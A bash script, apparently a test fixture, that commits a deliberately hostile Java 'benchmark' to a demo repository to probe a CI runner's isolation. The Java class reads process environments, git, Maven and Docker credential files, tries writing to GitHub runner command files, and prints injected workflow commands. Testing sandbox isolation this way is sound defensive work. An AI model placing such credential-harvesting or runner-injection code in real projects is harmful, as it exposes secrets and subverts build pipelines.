#!/usr/bin/env bash
# Usage: scripts/hostile-commit.sh DIR
# Adds a commit to a repository made by two-commits.sh: a benchmark that looks for secrets, tries to write to the files of the step that
# measures it, and prints commands to the runner. It writes what it found to DIR/got.txt.
set -euo pipefail
cd "${1:?usage: scripts/hostile-commit.sh DIR}"
cat >src/demo/Hostile.java <<'JAVA'
package demo;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.List;
import java.util.stream.Stream;

/** Looks for secrets. */
final class Hostile {
    private static final StringBuilder GOT = new StringBuilder();

    Hostile() {
        try {
            look();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static void look() throws IOException {
        say("user", text("/proc/self/status").replaceAll("(?s).*\nUid:\\s*(\\d+).*", "$1"));
        say("own environment", System.getenv().toString());
        for (ProcessHandle one = ProcessHandle.current(); one != null; one = one.parent().orElse(null)) {
            say("environment of " + one.pid(), text("/proc/" + one.pid() + "/environ").replace('\0', ' '));
            say("files of " + one.pid(), list("/proc/" + one.pid() + "/fd"));
        }
        int read = 0;
        for (String process : list("/proc").split(" ")) {
            String environment = process.matches("\\d+") ? text("/proc/" + process + "/environ") : "";
            read += environment.startsWith("(") || environment.isEmpty() ? 0 : 1;
            if (environment.contains("secret-of") || environment.contains("a-token")) {
                say("SECRET in " + process, environment);
            }
        }
        say("processes whose environment it may read", String.valueOf(read));
        for (String file : List.of(
                "/github/home/.m2/settings.xml",
                "/github/runner_temp/git-credentials-1.config",
                "/github/workflow/event.json",
                "/github/file_commands/output",
                "/github/workspace/.git/config",
                "/root/.docker/config.json")) {
            say(file, text(file).replace('\n', ' '));
        }
        for (String file : List.of("output", "summary", "env", "path")) {
            say("write " + file, write("/github/file_commands/" + file));
        }
        say("docker", Files.isWritable(Path.of("/var/run/docker.sock")) ? "WRITABLE" : "no");
        System.out.println("::set-output name=status::hostile");
        System.out.println("::stop-commands::hostile");
        System.out.println("::add-mask::hostile");
        System.out.println("\u001b[31m::error::hostile");
        System.err.println("::set-env name=PATH::hostile");
        Files.writeString(Path.of("/github/workspace/got.txt"), GOT.toString());
    }

    private static void say(String what, String got) {
        GOT.append(what).append(": ").append(got).append('\n');
    }

    private static String text(String file) {
        try {
            return new String(Files.readAllBytes(Path.of(file)), StandardCharsets.UTF_8);
        } catch (IOException e) {
            return "(" + e.getClass().getSimpleName() + ")";
        }
    }

    private static String list(String folder) {
        try (Stream<Path> all = Files.list(Path.of(folder))) {
            return String.join(" ", all.map(path -> path.getFileName().toString()).toList());
        } catch (IOException e) {
            return "(" + e.getClass().getSimpleName() + ")";
        }
    }

    private static String write(String file) {
        try {
            Files.writeString(Path.of(file), "status=hostile\n", StandardOpenOption.APPEND);
            return "WRITTEN";
        } catch (IOException e) {
            return "(" + e.getClass().getSimpleName() + ")";
        }
    }

    long work() {
        return 1;
    }
}
JAVA
sed -i 's|^                \.benchmarks($|&\n                        benchmark("hostile").given(Hostile::new).measureLong(Hostile::work),|' src/demo/DemoSuite.java
grep -q hostile src/demo/DemoSuite.java
git -c user.name=demo -c user.email=demo@example.org -c safe.directory="$PWD" add -A
git -c user.name=demo -c user.email=demo@example.org -c safe.directory="$PWD" commit -q -m "A benchmark that looks for secrets"
